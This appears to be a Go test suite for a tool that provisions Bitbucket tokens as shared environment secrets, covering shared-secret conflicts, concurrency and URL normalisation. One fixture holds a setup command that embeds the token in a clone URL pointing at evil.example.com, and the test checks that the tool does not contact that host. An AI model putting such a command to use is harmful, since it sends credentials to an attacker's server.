package test

import (
	"bytes"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/oz-bitbucket/oz-bitbucket/test/simulator/bitbucketsim"
	"github.com/oz-bitbucket/oz-bitbucket/test/simulator/fault"
	"github.com/oz-bitbucket/oz-bitbucket/test/simulator/warpsim"
)

// neighbour is a private repository with a token of its own, and the inputs of a job that
// provisions it with the default secret name.
type neighbour struct {
	repository *bitbucketsim.Repository
	token      string
	inputs     map[string]string
}

// neighbours returns two of them on one flavor.
func (w *world) neighbours(flavor bitbucketsim.Flavor, changes map[string]string) (first, second neighbour) {
	owner, kind, prefix := "acme", bitbucketsim.AccessToken, "ATCTT3MARKER-"
	if flavor == bitbucketsim.DataCenter {
		owner, kind, prefix = "PRJ", bitbucketsim.HTTPAccessToken, "BBDC-MARKER-"
	}
	make := func(slug string) neighbour {
		n := neighbour{w.bitbucket.AddRepository(bitbucketsim.Repository{Flavor: flavor, Owner: owner, Slug: slug}), prefix + slug + "-token-1A2B", nil}
		w.bitbucket.AddToken(bitbucketsim.Token{Value: n.token, Kind: kind, Repositories: []string{owner + "/" + slug}})
		n.inputs = w.inputs(map[string]string{"repo_url": n.repository.CloneURL(), "bitbucket_token": n.token})
		for name, value := range changes {
			n.inputs[name] = value
		}
		return n
	}
	return make("web"), make("api")
}

// stored returns the value of the only secret.
func (w *world) stored() string {
	w.t.Helper()
	secrets := w.oz.Secrets()
	require.Len(w.t, secrets, 1)
	return secrets[0].Value
}

// TestASecretIsSafeForEveryoneWhoReadsIt: otherwise the second job would succeed, and every
// later run in the first environment would fail to clone.
func TestASecretIsSafeForEveryoneWhoReadsIt(t *testing.T) {
	t.Parallel()
	for _, flavor := range []bitbucketsim.Flavor{bitbucketsim.Cloud, bitbucketsim.DataCenter} {
		for _, scope := range []string{"team", "personal"} {
			t.Run(fmt.Sprintf("%s, %s", flavor, scope), func(t *testing.T) {
				inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
					web, api := w.neighbours(flavor, map[string]string{"scope": scope})
					w.must(web.inputs)
					for range 2 {
						r := w.run(api.inputs)
						assert.Equal(t, 1, r.code, r.log)
						assert.Contains(t, r.log, "does not serve every environment that reads secret")
						assert.Regexp(t, `environment "(acme|PRJ)-web" \(\w{22}\): prove the token against `+web.repository.CloneURL(), r.log)
						assert.Regexp(t, `such as secret_name: BITBUCKET_(API_)?TOKEN_(ACME|PRJ)_API`, r.log)
						assert.Contains(t, r.log, "nothing was written")
						assert.Regexp(t, `"name":"(acme|PRJ)-api","change":"","verdict":"","error":"the token does not serve`, r.outputs["environments"])
						assert.True(t, w.stored() == web.token)
						w.onlyEnvironment()
						if w.dialect == github {
							assert.Regexp(t, "```mermaid\ngraph LR\n  s0\\[\"BITBUCKET_(API_)?TOKEN\"\\]", r.summary)
							assert.Regexp(t, `-web"\]`, r.summary)
						}
						plan := w.run(api.inputs, "plan")
						assert.Equal(t, 1, plan.code, "a plan says so too")
					}
					assert.Equal(t, "passed", w.must(web.inputs).outputs["smoke_test"], "the first environment works")

					own := map[string]string{"secret_name": "API_TOKEN_OF_ITS_OWN"}
					for name, value := range api.inputs {
						own[name] = value
					}
					assert.Equal(t, "passed", w.must(own).outputs["smoke_test"], "a secret of its own is the way out")
					assert.Equal(t, "passed", w.must(web.inputs).outputs["smoke_test"])
				})
			})
		}
	}
}

func TestASharedSecretIsOverwrittenWithAWarning(t *testing.T) {
	t.Parallel()
	for _, flavor := range []bitbucketsim.Flavor{bitbucketsim.Cloud, bitbucketsim.DataCenter} {
		for _, scope := range []string{"team", "personal"} {
			t.Run(fmt.Sprintf("%s, %s", flavor, scope), func(t *testing.T) {
				inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
					web, api := w.neighbours(flavor, map[string]string{"scope": scope, "on_shared_secret": "warn"})
					w.must(web.inputs)
					for range 2 {
						r := w.must(api.inputs)
						assert.Regexp(t, `the token does not serve everyone who reads secret "BITBUCKET_(API_)?TOKEN": environment "(acme|PRJ)-web"`, r.log)
						assert.Equal(t, "passed", r.outputs["smoke_test"])
						assert.True(t, w.stored() == api.token)
					}
				})
			})
		}
	}
}

// TestATokenThatServesBothIsStored: the plan shows the other environment.
func TestATokenThatServesBothIsStored(t *testing.T) {
	t.Parallel()
	inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
		web, api := w.neighbours(bitbucketsim.Cloud, nil)
		w.must(web.inputs)
		w.bitbucket.AddToken(bitbucketsim.Token{Value: accessToken, Kind: bitbucketsim.AccessToken})
		api.inputs["bitbucket_token"] = accessToken
		r := w.must(api.inputs)
		assert.Contains(t, r.log, `environment "acme-web"`)
		assert.Contains(t, r.log, "reads it too")
		assert.True(t, w.stored() == accessToken)
		web.inputs["bitbucket_token"] = accessToken
		assert.Equal(t, "passed", w.must(web.inputs).outputs["smoke_test"])
		web.inputs["bitbucket_token"] = web.token
		assert.Equal(t, 1, w.run(web.inputs).code, "the first one's token does not serve the second")
	})
}

// TestAnotherKindOfTokenBreaksOthers: their commands name the user of the stored token's kind.
func TestAnotherKindOfTokenBreaksOthers(t *testing.T) {
	t.Parallel()
	inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
		web, api := w.neighbours(bitbucketsim.Cloud, nil)
		w.must(web.inputs)
		api.inputs["bitbucket_token"] = cloudToken // an API token that serves every repository
		for range 2 {
			r := w.run(api.inputs)
			assert.Equal(t, 1, r.code, r.log)
			assert.Contains(t, r.log, "run apply for this environment with the new token")
			assert.True(t, w.stored() == web.token)
		}
	})
}

// TestTheTokenIsShownToItsOwnServerOnly: the token does not serve an environment that clones
// from another server with the same secret, and that server gets no request.
func TestTheTokenIsShownToItsOwnServerOnly(t *testing.T) {
	t.Parallel()
	inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
		w.oz.AddSecret(team, "BITBUCKET_API_TOKEN", "another value")
		w.oz.AddEnvironment(team, `{"name":"far","setup_commands":["git clone https://x-token-auth:$BITBUCKET_API_TOKEN@evil.example.com/scm/PRJ/app.git"],"secrets":[{"name":"BITBUCKET_API_TOKEN"}]}`)
		for _, reaction := range []string{"fail", "warn"} {
			r := w.run(w.inputs(map[string]string{"on_shared_secret": reaction, "smoke_test": "false"}))
			assert.Equal(t, map[string]int{"fail": 1, "warn": 0}[reaction], r.code, r.log)
			assert.Contains(t, r.log, `environment "far"`)
			assert.Contains(t, r.log, "a token is for one server")
		}
		for _, request := range w.bitbucket.Journal.All() {
			assert.NotContains(t, request.URL, "evil.example.com")
		}
	})
}

// TestACommandThatCannotBeFollowedIsAWarning: with the environment's name. So is a list of
// secrets that names the secret without a command that uses it.
func TestACommandThatCannotBeFollowedIsAWarning(t *testing.T) {
	t.Parallel()
	inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
		w.oz.AddSecret(team, "BITBUCKET_API_TOKEN", "another value")
		w.oz.AddEnvironment(team, `{"name":"script","setup_commands":["./fetch.sh \"$(printenv BITBUCKET_API_TOKEN)\""]}`)
		w.oz.AddEnvironment(team, `{"name":"broken","setup_commands":["git clone 'https://x:$BITBUCKET_API_TOKEN@bitbucket.org/acme/sample.git"]}`)
		w.oz.AddEnvironment(team, `{"name":"idle","setup_commands":["make"],"secrets":[{"name":"BITBUCKET_API_TOKEN"}]}`)
		w.oz.AddEnvironment(team, `{"name":"nobody","setup_commands":["echo BITBUCKET_API_TOKENS"],"secrets":[]}`)
		w.oz.Trash(w.oz.AddEnvironment(team, `{"name":"trashed","setup_commands":["printenv BITBUCKET_API_TOKEN"]}`))
		for range 2 {
			r := w.must(w.inputs(map[string]string{"smoke_test": "false"}))
			for _, name := range []string{"script", "broken"} {
				assert.Regexp(t, `environment "`+name+`" \(\w+\) uses secret "BITBUCKET_API_TOKEN" in a command that this program cannot follow`, r.log)
			}
			assert.Regexp(t, `environment "idle" \(\w+\) uses secret "BITBUCKET_API_TOKEN", but this program recognises no clone command`, r.log)
			assert.NotContains(t, r.log, "nobody")
			assert.NotContains(t, r.log, "trashed")
		}
	})
}

// TestTwoJobsAtOnceLeaveNobodyBehind: with any order of their requests, they do not both end
// with 0, and a job that breaks the other reports it.
func TestTwoJobsAtOnceLeaveNobodyBehind(t *testing.T) {
	t.Parallel()
	for _, there := range []string{"nothing", "the secret"} {
		for _, ahead := range []time.Duration{0, 60 * time.Millisecond, 120 * time.Millisecond, 180 * time.Millisecond} {
			t.Run(fmt.Sprintf("%s is there, %s apart", there, ahead), func(t *testing.T) {
				t.Parallel()
				w := newWorld(t, plain, warpsim.Options{Latency: 40 * time.Millisecond})
				if there == "the secret" {
					w.oz.AddSecret(team, "BITBUCKET_API_TOKEN", "another value")
				}
				web, api := w.neighbours(bitbucketsim.Cloud, map[string]string{"smoke_test": "false"})
				var together sync.WaitGroup
				ends := map[string]func() result{}
				for i, n := range []neighbour{web, api} {
					command, directory := w.command(n.inputs)
					var stdout, stderr bytes.Buffer
					command.Stdout, command.Stderr = &stdout, &stderr
					together.Go(func() {
						<-time.After(time.Duration(i) * ahead)
						_ = command.Run() // the exit code is in the result
					})
					ends[n.token] = func() result { return w.finished(command, directory, stdout.String(), stderr.String()) }
				}
				together.Wait()
				green, overwritten, said := 0, false, ""
				for token, end := range ends {
					r := end()
					if r.code == 0 {
						green++
						overwritten = w.stored() != token
						continue
					}
					said += r.log
				}
				assert.LessOrEqual(t, green, 1)
				if overwritten { // by a job that could not know this, and reports it now
					assert.Contains(t, said, "does not serve every environment that reads secret")
					assert.Contains(t, said, "the secret is written")
				}
				w.requireClean()
			})
		}
	}
}

// TestAnEnvironmentThatAppearsMeanwhile: it is found after the secret was overwritten.
func TestAnEnvironmentThatAppearsMeanwhile(t *testing.T) {
	t.Parallel()
	for name, serves := range map[string]bool{"that the token serves": true, "that it does not serve": false} {
		t.Run(name, func(t *testing.T) {
			inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
				web, api := w.neighbours(bitbucketsim.Cloud, map[string]string{"smoke_test": "false"})
				if serves {
					w.bitbucket.AddToken(bitbucketsim.Token{Value: api.token, Kind: bitbucketsim.AccessToken})
				}
				w.must(api.inputs)
				w.oz.Script.Add(fault.Fault{Operation: "UpdateManagedSecret", When: fault.Meanwhile, Do: func() {
					w.oz.AddEnvironment(team, `{"name":"late","setup_commands":["git clone https://x-token-auth:$BITBUCKET_API_TOKEN@bitbucket.org/acme/web.git"]}`)
				}})
				r := w.run(api.inputs)
				assert.Contains(t, r.log, `planning again: environment "late"`)
				if serves {
					assert.Equal(t, 0, r.code, r.log)
					return
				}
				assert.Equal(t, 1, r.code, r.log)
				assert.Contains(t, r.log, "prove the token against "+web.repository.CloneURL())
				assert.Contains(t, r.log, "the secret is written")
				assert.NotContains(t, r.log, "nothing was written")
			})
		})
	}
}

// TestAPlanWithoutATokenKeepsTheForm: that of the existing commands.
func TestAPlanWithoutATokenKeepsTheForm(t *testing.T) {
	t.Parallel()
	inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
		w.bitbucket.AddToken(bitbucketsim.Token{Value: accessToken, Kind: bitbucketsim.AccessToken})
		for _, auth := range []string{"helper", "url"} {
			inputs := w.inputs(map[string]string{"bitbucket_token": accessToken, "smoke_test": "false", "clone_auth": auth})
			if auth == "helper" {
				w.must(inputs)
			} else {
				assert.Equal(t, "update", w.must(inputs).outputs["environment_change"])
			}
			inputs["mode"], inputs["detailed_exitcode"] = "plan", "true"
			delete(inputs, "bitbucket_token")
			for range 2 {
				r := w.run(inputs)
				assert.Equal(t, 0, r.code, r.log)
				assert.Equal(t, "keep", r.outputs["environment_change"])
			}
		}
	})
}

// TestOneRepositoryHasOneEnvironment: with every spelling of the URL.
func TestOneRepositoryHasOneEnvironment(t *testing.T) {
	t.Parallel()
	inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
		inputs := w.inputs(map[string]string{"repo_url": w.dc.CloneURL(), "bitbucket_token": dcToken, "setup_commands": "test -d .git"})
		first := w.must(inputs)
		for _, spelling := range []string{"/scm/prj/sample", "/scm/Prj/sample.git"} {
			inputs["repo_url"] = strings.Replace(w.dc.CloneURL(), "/scm/PRJ/sample.git", spelling, 1)
			r := w.must(inputs)
			assert.Equal(t, first.outputs["environment_id"], r.outputs["environment_id"])
			assert.Equal(t, "keep", r.outputs["environment_change"], r.log)
			assert.Equal(t, "passed", r.outputs["smoke_test"])
		}
		w.onlyEnvironment()
	})
}

// TestAnUnknownShapeIsAnError: the error names the environment, and nothing is overwritten.
func TestAnUnknownShapeIsAnError(t *testing.T) {
	t.Parallel()
	inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
		const odd = `{"name":"acme-sample","setup_commands":[{"run":"make"}],"secrets":[{"name":"NPM_TOKEN"}]}`
		w.oz.AddEnvironment(team, odd)
		for range 2 {
			r := w.run(w.inputs(nil))
			assert.Equal(t, 1, r.code, r.log)
			assert.Contains(t, r.log, `environment "acme-sample"`)
			assert.Contains(t, r.log, "setup_commands is not a list of texts")
			assert.Equal(t, odd, w.onlyEnvironment().Model)
			assert.Empty(t, w.oz.Secrets())
		}
	})
}
